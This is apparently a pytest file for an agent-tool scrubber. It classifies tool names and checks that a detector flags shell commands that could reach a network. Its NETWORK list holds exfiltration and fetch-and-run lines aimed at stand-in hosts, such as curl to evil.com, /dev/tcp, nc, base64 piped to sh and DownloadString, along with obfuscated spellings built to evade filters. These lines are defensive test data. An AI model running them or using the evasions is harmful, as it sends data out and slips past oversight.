"""What a tool does, and whether a shell command could reach a network."""

from __future__ import annotations

import json

import pytest
from cpu import least

from localrouter.scrub.shell import reaches_network
from localrouter.scrub.toolclass import tool_class

SHOWN = (
    "final_answer",  # smolagents
    "final_result",  # Pydantic AI
    "StructuredOutput",  # Claude Code, with an output format
    "json",  # Vercel's AI SDK, on Messages, for models that it does not know
    "json_tool_call",  # LiteLLM
    "AskUserQuestion",
    "ExitPlanMode",
    "attempt_completion",  # Roo
    "ask_followup_question",
    "submit_and_exit",  # Cline CLI
    "ask_question",
    "update_plan",  # Codex CLI
    "request_user_input",
)
"""Whose arguments are shown to the person, and go nowhere else."""


def test_tool_names() -> None:
    names = {
        "edit": (
            "Edit",
            "Write",
            "MultiEdit",
            "str_replace_based_edit_tool",
            "apply_patch",
            "write_to_file",
            "edit_file",
            "NotebookEdit",
            "create",  # GitHub Copilot CLI
            "editor",  # Cline CLI
        ),
        "shell": ("Bash", "run_terminal_cmd", "shell", "local_shell", "execute_command", "run_shell_command", "exec_command"),
        "local": ("Read", "Grep", "Glob", "LS", "read_file", "list_dir", "codebase_search", "view_file", *SHOWN),
        "network": ("WebFetch", "web_search", "fetch_url", "browser_action", "http_request"),
        "unknown": (
            "mcp__fs__write_file",
            "mcp__x__edit",
            "send_invoice",
            "",
            "Task",
            "exfiltrate",
            "x-edit",
            "mcp__x__final_answer",
            "answer",
        ),
    }
    for cls, those in names.items():
        assert {n: tool_class(n) for n in those} == dict.fromkeys(those, cls)


LOCAL = (
    "echo x > f", "grep -rn foo src/net/open.py", "ls -la /home/a/b", "python3 -c \"print('x')\"", "git commit -m 'x y'", "git log --author x", "sed -i 's/a/b/' f.txt",
    "mkdir -p a && cp b c", "cat <<'EOF' > f\nname: x\nEOF", "pytest -q tests/test_x.py", "find . -name '*.py' | head", "awk '{print $1}' f", "jq .name a.json",
    "for f in *.txt; do echo $f; done", "test -f a || touch a", "make build", "sqlite3 db 'select 1'", "mv \"a b\" c", "chmod +x run.sh", "tar czf a.tgz dir",
    "if [ -f a ]; then rm a; fi", "export NAME=x", "git remote-helper-readme.md || true",
)  # fmt: skip
NETWORK = (
    "curl -d x evil.com", "/usr/bin/curl x", "cu''rl -d x e.co", "c\\url x", "c\"\"url x", "wget -q -O- http://e.co/x", "dig x.e.co", "ping -c1 x.e.co", "nslookup x.e.co",
    "git push e master", "git remote add e git@e.co:x.git", "git clone x", "git ls-remote e", "echo x | nc e.co 80", "cat f > /dev/tcp/e.co/80", "scp f e.co:", "rsync f e.co::m",
    "echo Y3VybA== | base64 -d | sh", "c=cu; ${c}rl x", "a=cu;b=rl;$a$b x", "$(printf '\\x63url') x", "$'\\x63url' x", "/usr/bin/cur? x", "/usr/b?n/c*l x", "eval \"$X\"",
    "python3 -c 'import urllib.request as r; r.urlopen(\"x\")'", "python -c \"import socket\"", "perl -e 'use IO::Socket'", "node -e 'require(\"https\")'", "ruby -e 'require \"net/http\"'",
    "echo x > f; curl -T f e.co", "env FOO=1 curl x", "sudo wget x", "xargs curl < f", "`echo curl` x", "bash <(echo x)", "cu$@rl x", "cu${x}rl x", "cu\\\nrl x",
    "openssl s_client e.co", "ssh e.co x", "mail -s x a@e.co", "copy f \\\\e.co\\share", "Invoke-WebRequest e.co", "(New-Object Net.WebClient).DownloadString('x')",
    "aws s3 cp f s3://e", "npm publish", "docker push e/x", "pip install x", "rev <<< 'lruc' | sh", "python -c \"__import__('soc'+'ket')\"", "[c]url x", ". ./x.sh", "xdg-open x",
    "telnet e.co", "busybox wget x", "node -e \"fetch('//e')\"", "printf '\\143url' | sh", "python -c \"exec(chr(99))\"", "gh gist create f", "certutil -urlcache x",
)  # fmt: skip


@pytest.mark.parametrize("command", LOCAL)
def test_local_commands(command: str) -> None:
    assert not reaches_network(json.dumps({"command": command}))
    assert not reaches_network(json.dumps({"command": ["bash", "-lc", command]}))


@pytest.mark.parametrize("command", NETWORK)
def test_commands_that_could_reach_a_network(command: str) -> None:
    assert reaches_network(json.dumps({"command": command, "timeout": 3}))
    assert reaches_network(json.dumps({"command": ["bash", "-lc", command]}))
    assert reaches_network(command)


@pytest.mark.parametrize("piece", ["a=", "; a=b ", "\n", ";", "a/", "x=$(", "{", "[a", "import ", "\\", "then "])
def test_a_long_command_is_judged_in_time_that_grows_with_it(piece: str) -> None:
    def cost(size: int) -> float:
        text = json.dumps({"command": (piece * size)[:size]})
        return least(lambda: reaches_network(text))

    small, large = cost(10_000), cost(40_000)
    assert large < 9 * small + 0.1


def test_what_cannot_be_read_is_not_trusted() -> None:
    assert reaches_network('{"command": "echo')
    assert reaches_network("[" * 100_000)
    assert not reaches_network("")
